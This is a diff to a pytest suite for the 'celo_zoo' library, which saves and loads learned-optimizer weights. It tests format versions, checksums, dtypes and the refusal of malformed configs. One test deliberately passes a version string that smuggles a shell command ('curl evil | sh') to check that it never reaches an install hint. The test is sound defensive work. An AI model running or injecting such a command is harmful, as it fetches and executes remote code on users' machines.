@@ -1,8 +1,11 @@
 """Saving and loading: exact, complete, and closed to anything else."""
 
+import dataclasses
 import hashlib
 import json
 import os
+import pathlib
+import shutil
 import subprocess
 import sys
 
@@ -11,13 +14,13 @@ import jax.numpy as jnp
 import numpy as np
 import optax
 import pytest
-import yaml
 from conftest import PROVENANCE
 
+import celo_core
 import celo_zoo
-from celo_core import ARCHITECTURES, CeloConfig, LSTMSchedulerConfig, get_architecture
+from celo_core import ARCHITECTURES, CeloConfig, LSTMSchedulerConfig, configs, get_architecture
 from celo_core.checks import flatten_theta
-from celo_zoo import folders, models
+from celo_zoo import folders, models, schema, tensors
 
 
 def random_theta(architecture, seed=0):
@@ -29,6 +32,7 @@ def assert_same_bits(left, right):
     assert left.keys() == right.keys()
     for path, leaf in left.items():
         assert np.shape(leaf) == np.shape(right[path])
+        assert leaf.dtype == right[path].dtype
         assert np.asarray(leaf).tobytes() == np.asarray(right[path]).tobytes()
 
 
@@ -41,20 +45,23 @@ def rewrite(folder, target, **changes):
 
 
 @pytest.mark.parametrize("name", ARCHITECTURES)
-@pytest.mark.parametrize("seed", [0, 1])
-def test_round_trip(name, seed, tmp_path):
+@pytest.mark.parametrize("dtype", tensors.DTYPES.values(), ids=str)
+def test_round_trip(name, dtype, tmp_path):
     architecture = get_architecture(name)
-    theta = random_theta(architecture, seed)
+    theta = jax.tree.map(lambda leaf: np.asarray(leaf).astype(dtype), random_theta(architecture))
     folder = celo_zoo.save(theta, architecture.config, tmp_path / "a" / "b", metadata=PROVENANCE)
     loaded, config = celo_zoo.load(folder)
     assert_same_bits(loaded, theta)
     assert config == architecture.config
     assert type(config) is type(architecture.config)
     assert celo_zoo.info(str(folder)) == {
-        "format_version": 1,
+        "format_version": 2,
+        "requires": {"celo-zoo": "0.1.0", "celo-core": celo_core.__version__},
         "architecture": name,
-        "config": json.loads((folder / "config.json").read_text())["config"],
+        "config": configs.to_json(architecture.config),
         "provenance": PROVENANCE,
+        "evaluation": [],
+        "repository": None,
     }
     assert sorted(os.listdir(folder)) == ["README.md", "checksums", "config.json", "model.safetensors"]
     assert os.listdir(tmp_path / "a") == ["b"]
@@ -75,13 +82,35 @@ def test_other_configs(config, tmp_path):
     assert_same_bits(loaded, theta)
 
 
-def test_strided_and_double_leaves(tmp_path):
+def test_stored_in_another_dtype_it_is_the_same_optimizer(tmp_path):
+    """Arithmetic is in float32 whatever theta is stored in, and float64 holds it exactly."""
     architecture = get_architecture("celo_adam")
-    theta = jax.tree.map(lambda leaf: np.asfortranarray(np.asarray(leaf, np.float64)), random_theta(architecture))
-    loaded, _ = celo_zoo.load(celo_zoo.save(theta, architecture.config, tmp_path / "model"))
-    for path, leaf in flatten_theta(loaded).items():
-        assert leaf.dtype == jnp.float32
-        np.testing.assert_array_equal(leaf, np.asarray(flatten_theta(theta)[path], np.float32))
+    theta = random_theta(architecture)
+    double = jax.tree.map(lambda leaf: np.asfortranarray(np.asarray(leaf, np.float64)), theta)
+    folder = celo_zoo.save(double, architecture.config, tmp_path / "model")
+    params, gradient = jnp.array([2.0, -1.0]), jnp.array([0.5, 0.1])
+
+    def first_update(tx):
+        return tx.update(gradient, tx.init(params), params, value=jnp.float32(1.0))[0]
+
+    np.testing.assert_array_equal(
+        first_update(celo_zoo.optimizer(folder, 10)), first_update(architecture.build(theta, 10))
+    )
+
+
+def test_pretrained_knows_where_it_comes_from(model_folder):
+    found = celo_zoo.load(model_folder)
+    assert (found.source, found.commit, found.architecture) == (str(model_folder), None, "celo")
+    assert found.num_values == 35_803
+    assert found.digest == hashlib.sha256((model_folder / "checksums").read_bytes()).hexdigest()
+    assert celo_zoo.load(found.reference).digest == found.digest
+    with pytest.raises(celo_zoo.ChecksumError, match=f"digest {found.digest}, not {'0' * 64}"):
+        celo_zoo.load(f"{model_folder}@sha256:{'0' * 64}")
+
+
+def test_wrong_digest_is_refused_before_parsing(model_folder, no_parser):
+    with pytest.raises(celo_zoo.ChecksumError, match="as expected"):
+        celo_zoo.load(f"{model_folder}@sha256:{'0' * 64}")
 
 
 def test_checksums_are_those_of_sha256sum(model_folder):
@@ -116,8 +145,8 @@ def no_parser(monkeypatch):
     def reached(*arguments, **keywords):
         pytest.fail("a file was parsed before it was checked")
 
-    monkeypatch.setattr(models.tensors, "decode", reached)
-    monkeypatch.setattr(models.json, "loads", reached)
+    monkeypatch.setattr(tensors, "decode", reached)
+    monkeypatch.setattr(schema.json, "loads", reached)
 
 
 def copy_of(folder, target):
@@ -187,7 +216,7 @@ def test_unusual_checksums_are_refused(edit, model_folder, tmp_path, no_parser):
 def test_files_beside_are_ignored(model_folder, tmp_path):
     folder = copy_of(model_folder, tmp_path / "copy")
     (folder / ".gitattributes").write_text("x")
-    assert_same_bits(celo_zoo.load(folder)[0], celo_zoo.load(model_folder)[0])
+    assert_same_bits(celo_zoo.load(folder).theta, celo_zoo.load(model_folder).theta)
 
 
 def test_large_files_are_refused(model_folder, tmp_path, no_parser, monkeypatch):
@@ -198,8 +227,46 @@ def test_large_files_are_refused(model_folder, tmp_path, no_parser, monkeypatch)
 
 
 def test_newer_version_is_refused(model_folder, tmp_path):
-    with pytest.raises(ValueError, match="format version 2 and this celo-zoo reads up to 1: upgrade celo-zoo"):
-        celo_zoo.load(rewrite(model_folder, tmp_path / "newer", format_version=2, architecture="of the future"))
+    """Whatever else it has: of the present version's fields only ``requires`` is looked at."""
+
+    def refusal(requires):
+        with pytest.raises(celo_zoo.NewerFormatError) as caught:
+            celo_zoo.load(rewrite(model_folder, tmp_path / "newer", format_version=3, config=None, requires=requires))
+        shutil.rmtree(tmp_path / "newer")
+        return str(caught.value)
+
+    told = refusal({"celo-zoo": "0.7.1"})
+    assert told.endswith(
+        'format version 3 and this celo-zoo reads up to 2: install celo-zoo 0.7.1 or newer (pip install "celo-zoo>=0.7.1").'
+    )
+    for untold in (None, [], {}, {"celo-zoo": 7}, {"celo-zoo": "1; curl evil | sh"}, {"celo-zoo": "1" * 1000}):
+        assert refusal(untold).endswith("upgrade celo-zoo (pip install -U celo-zoo).")
+
+
+def test_newer_architecture_names_the_version_to_install(model_folder, tmp_path):
+    changes = {"architecture": "of the future", "requires": {"celo-core": "0.9"}}
+    with pytest.raises(celo_zoo.NewerFormatError, match=r"unknown architecture.*: install celo-core 0\.9 or newer"):
+        celo_zoo.load(rewrite(model_folder, tmp_path / "newer", **changes))
+    changes = {"config": {"surprise": 1}, "requires": {"celo-core": "99.0"}}
+    with pytest.raises(celo_zoo.NewerFormatError, match=r"'surprise'.*: install celo-core 99\.0 or newer"):
+        celo_zoo.load(rewrite(model_folder, tmp_path / "field", **changes))
+
+
+OLD = pathlib.Path(__file__).parent / "format_1"
+"""Written by the code that wrote format 1: a Celo of small sizes whose leaves count up from zero in eighths."""
+
+
+def test_format_1_is_still_read():
+    found = celo_zoo.load(OLD)
+    assert json.loads((OLD / "config.json").read_text())["format_version"] == 1
+    assert found.config == CeloConfig(hidden_sizes=(2,), scheduler=LSTMSchedulerConfig(hidden_size=3))
+    assert found.document["format_version"] == 2
+    assert found.document["provenance"] == {"command": "written by hand", "seeds": [0]}
+    assert (found.document["evaluation"], found.document["repository"]) == ([], None)
+    leaves = flatten_theta(found.theta)
+    counted = np.concatenate([leaves[path].ravel() for path in sorted(leaves)])
+    np.testing.assert_array_equal(counted, np.arange(counted.size, dtype=np.float32) / 8)
+    assert found.digest == "ccc86b8a28741d985a319ff9c7061fa260896ed0765c6afab388c3ee9b117762"
 
 
 @pytest.mark.parametrize(
@@ -213,12 +280,17 @@ def test_newer_version_is_refused(model_folder, tmp_path):
         ({"architecture": 3}, "lacks an architecture"),
         ({"architecture": "celo_adam"}, "has no field"),
         ({"config": []}, "lacks an architecture"),
-        ({"config": {"hidden_sizes": [-1]}}, "does not fit this version of celo-core"),
+        ({"config": {"hidden_sizes": [-1]}}, "does not fit the installed celo-core"),
         ({"config": {"hidden_sizes": "ab"}}, "must be a list"),
         ({"config": {"surprise": 1}}, "has no field 'surprise'"),
         ({"config": {"hidden_sizes": [5, 4]}}, r"has shape \(4,\), not \(5,\)"),
         ({"config": {"scheduler": None}}, "unknown leaves scheduler"),
-        ({"provenance": None}, "lacks an architecture, a config or a provenance"),
+        ({"provenance": None}, "lacks an architecture, a config, a provenance or another field"),
+        ({"repository": 3}, "or another field"),
+        ({"evaluation": None}, "or another field"),
+        ({"evaluation": [{"suite": 3}]}, "unfit evaluation"),
+        ({"config": {"hidden_sizes": [2**16 + 1]}}, "the size 65537, more than the 65,536 allowed"),
+        ({"config": {"hidden_sizes": [1] * 257}}, "a config with 257 entries"),
     ],
 )
 def test_unfit_config_is_refused(changes, message, model_folder, tmp_path):
@@ -226,7 +298,9 @@ def test_unfit_config_is_refused(changes, message, model_folder, tmp_path):
         celo_zoo.load(rewrite(model_folder, tmp_path / "unfit", **changes))
 
 
-@pytest.mark.parametrize("text", [b"", b"3", b"{", b"[" * 200_000, b'{"format_version": NaN}', b"\xff"])
+@pytest.mark.parametrize(
+    "text", [b"", b"3", b"{", b"[" * 200_000, b'{"format_version": NaN}', b'{"a": 1e999}', b"\xff"]
+)
 def test_config_that_is_not_json_is_refused(text, model_folder, tmp_path):
     files = {name: (model_folder / name).read_bytes() for name in folders.LISTED} | {folders.CONFIG: text}
     with pytest.raises(ValueError, match=r"config\.json"):
@@ -236,12 +310,11 @@ def test_config_that_is_not_json_is_refused(text, model_folder, tmp_path):
 @pytest.mark.parametrize("number", [np.nan, np.inf])
 def test_non_finite_theta_is_refused(number, model_folder, tmp_path):
     theta, config = celo_zoo.load(model_folder)
-    theta["update_rule"]["output"]["bias"] = jnp.array([0.0, number], jnp.float32)
+    theta["update_rule"]["output"]["bias"] = np.array([0.0, number], np.float32)
     with pytest.raises(ValueError, match="'update_rule/output/bias' has numbers that are not finite"):
         celo_zoo.save(theta, config, tmp_path / "model")
-    leaves = {path: np.asarray(leaf) for path, leaf in flatten_theta(theta).items()}
     files = {name: (model_folder / name).read_bytes() for name in folders.LISTED}
-    files[folders.WEIGHTS] = models.tensors.encode(leaves)
+    files[folders.WEIGHTS] = tensors.encode(theta)
     with pytest.raises(ValueError, match="'update_rule/output/bias' has numbers that are not finite"):
         celo_zoo.load(folders.write(tmp_path / "by hand", files))
     assert os.listdir(tmp_path) == ["by hand"]
@@ -257,6 +330,12 @@ def test_save_refuses_what_does_not_belong_together(model_folder, tmp_path):
         celo_zoo.save(theta, config, tmp_path / "model", metadata={"loss": float("nan")})
     with pytest.raises(ValueError, match="not JSON"):
         celo_zoo.save(theta, config, tmp_path / "model", metadata={"when": object()})
+    with pytest.raises(celo_zoo.FormatError, match="metadata have 1,0"):
+        celo_zoo.save(theta, config, tmp_path / "model", metadata={"log": "x" * 2**20})
+    with pytest.raises(celo_zoo.FormatError, match="theta"):
+        celo_zoo.save(theta | {"scheduler": "none"}, config, tmp_path / "model")
+    with pytest.raises(celo_zoo.RefError, match="no name of a repository"):
+        celo_zoo.save(theta, config, tmp_path / "model", repository="celo")
     assert os.listdir(tmp_path) == []
 
 
@@ -267,9 +346,13 @@ def test_save_refuses_what_does_not_belong_together(model_folder, tmp_path):
 def failing(request, monkeypatch):
     """Something breaks in the middle of a save."""
     if request.param == "read back":
-        monkeypatch.setattr(models.tensors, "same_bits", lambda left, right: "scheduler/initial_cell" not in left)
-        monkeypatch.setattr(models.tensors, "encode", lambda leaves, encode=_encode: encode(leaves))
-        return OSError
+        honest = models.read_folder
+        monkeypatch.setattr(
+            models,
+            "read_folder",
+            lambda *a, **k: dataclasses.replace(honest(*a, **k), config=CeloConfig(hidden_sizes=())),
+        )
+        return celo_zoo.WriteError
     error = KeyboardInterrupt if request.param == "keyboard" else OSError
     calls = []
 
@@ -279,18 +362,12 @@ def failing(request, monkeypatch):
             raise error("no space left on device")
 
     monkeypatch.setattr(folders.os, "rename" if request.param == "first rename" else "fsync", fail)
-    return error
-
-
-def _encode(leaves):
-    import safetensors.numpy
-
-    return safetensors.numpy.save(dict(leaves))
+    return KeyboardInterrupt if request.param == "keyboard" else celo_zoo.WriteError
 
 
 @pytest.mark.parametrize("exists", [False, True])
 def test_failed_save_leaves_nothing(exists, failing, model_folder, tmp_path):
-    theta, config = celo_zoo.load(model_folder)
+    theta, config = celo_zoo.load(model_folder).theta, CeloConfig()
     target = tmp_path / "model"
     if exists:
         copy_of(model_folder, target)
@@ -353,31 +430,7 @@ def test_overwrite_through_a_link(model_folder, tmp_path):
     assert celo_zoo.info(target)["provenance"] == {"command": "two"}
 
 
-# --- model cards and imports -----------------------------------------------------------------------------------------
-
-
-def test_card(model_folder):
-    text = (model_folder / "README.md").read_text()
-    _, front, body = text.split("---\n", 2)
-    assert yaml.safe_load(front) == {
-        "license": "apache-2.0",
-        "library_name": "celo",
-        "tags": ["celo", "learned-optimizer", "meta-learning", "optax", "jax"],
-    }
-    assert "- command: `celo-tasks meta-train --out runs/'x'`\n" in body
-    for key in ("commit", "hardware"):
-        assert f"`{PROVENANCE[key]}`" in body
-    assert "100 to 2000 steps" in body
-    assert "35,803 meta-trained values" in body
-
-
-def test_card_without_metadata_and_own_card(model_folder, tmp_path):
-    theta, config = celo_zoo.load(model_folder)
-    assert "Nothing was recorded" in (celo_zoo.save(theta, config, tmp_path / "a") / "README.md").read_text()
-    folder = celo_zoo.save(theta, config, tmp_path / "b", card="# Mine\n", metadata={"license": "mit: [really]"})
-    assert (folder / "README.md").read_text() == "# Mine\n"
-    folder = celo_zoo.save(theta, config, tmp_path / "c", metadata={"license": "mit: [really]"})
-    assert yaml.safe_load((folder / "README.md").read_text().split("---\n")[1])["license"] == "mit: [really]"
+# --- imports -----------------------------------------------------------------------------------------------------------
 
 
 def test_import_is_light():
